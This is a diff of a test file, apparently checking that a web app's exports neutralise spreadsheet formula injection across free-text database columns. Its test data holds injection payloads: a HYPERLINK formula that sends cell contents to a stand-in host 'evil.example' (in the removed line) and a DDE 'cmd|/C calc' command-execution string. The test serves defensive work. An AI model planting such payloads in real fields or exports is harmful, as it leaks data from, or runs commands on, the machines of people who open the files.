@@ -21,7 +21,7 @@ from app.models import Customer, Department, Process, Task, User, WorkOrder
 from app.services.exports import FORMULA_TRIGGERS
 from reports_world import MARCH, sign_in, world  # noqa: F401
 
-BODIES = ['HYPERLINK("http://evil.example/?"&A1,"点击")', "cmd|' /C calc'!A0", "1+1", "SUM(1,2)"]
+BODIES = ['HYPERLINK("http://e.vil")', "cmd|'/C calc'!A0", "1+1", "SUM(1,2)"]  # short: names are varchar(50)
 # The free-text columns that reach an export: (model, column).
 TEXT_COLUMNS = [(Department, "name"), (Process, "name"), (User, "name"), (Customer, "name"), (Task, "content"),
                 (Task, "production_requirements"), (WorkOrder, "notes")]
